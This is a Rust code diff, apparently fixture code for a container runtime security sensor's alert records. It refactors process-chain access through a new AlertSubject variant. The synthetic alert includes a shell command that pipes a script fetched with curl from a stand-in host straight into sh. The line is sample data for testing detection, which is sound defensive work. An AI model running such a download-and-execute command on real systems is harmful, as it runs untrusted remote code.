@@ -4,8 +4,8 @@ use crate::publisher::Publisher;
 use crate::records::{alert, container, process, status};
 use crate::running::Backend;
 use event_model::{
-    Alert, BlindRule, Component, Lane, Loss, LossReason, Priority, ProbeCoverage, ProbeState,
-    Record, SensorStatus, SourceId, Timestamp,
+    Alert, AlertSubject, BlindRule, Component, Lane, Loss, LossReason, Priority, ProbeCoverage,
+    ProbeState, Record, SensorStatus, SourceId, Timestamp,
 };
 
 /// Records of one source, sent and acknowledged one after the other.
@@ -66,11 +66,12 @@ fn act((age, rule, priority, place, line): (u64, &str, Priority, char, &str)) ->
     made.detected_at = Timestamp(made.time.0 + 2_300_000);
     made.message = format!("{rule} (command={line} container=app)");
     made.tags = vec!["container".into(), "mitre_execution".into(), "T1496".into()];
-    made.process_chain[0].executable.upper_layer = line.starts_with("/tmp");
-    made.process_chain[0].executable.memfd = line.starts_with("memfd");
+    let AlertSubject::Act { process_chain, .. } = &mut made.subject else { unreachable!() };
+    process_chain[0].executable.upper_layer = line.starts_with("/tmp");
+    process_chain[0].executable.memfd = line.starts_with("memfd");
     let shell =
         process(250, Some(200), &["/bin/sh", "-c", "curl -s http://198.51.100.7/i.sh | sh"]);
-    made.process_chain.insert(1, shell);
+    process_chain.insert(1, shell);
     made
 }
 
